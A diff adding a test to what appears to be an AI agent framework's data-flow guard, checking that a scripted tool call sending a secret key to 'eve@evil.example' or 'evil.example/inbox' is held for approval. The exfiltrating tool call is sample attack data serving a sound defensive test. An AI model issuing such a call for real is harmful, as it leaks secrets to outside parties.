@@ -288,6 +288,25 @@ async def test_a_secret_does_not_leave():
     assert KEY not in reason
 
 
+async def test_an_address_is_known_in_any_argument():
+    for name, address in [("who", "eve@evil.example"), ("link", "evil.example/inbox")]:
+        verdicts = []
+
+        @tool
+        def send(body: str, who: str = "", link: str = "") -> str:
+            return "sent"
+
+        sent = ToolCall(name="send", arguments={"body": KEY, name: address})
+        model = ScriptedModel([AssistantMessage(content="", tool_calls=(sent,)), "done"])
+        async with Agent(
+            model, tools=[send], components=[FlowGuard(sinks={"send": "message"})]
+        ) as agent:
+            agent.bus.tap(verdicts.append)
+            await agent.run("Look.")
+
+        assert "asked" in [each.outcome for each in verdicts if each.event == TOOL_CALL_BEFORE.name]
+
+
 async def test_private_data_goes_to_named_addresses():
     talk = Talk(sinks={"send_*": "message"}, private_tools=["crm"], trusted_tools=["*"])
 
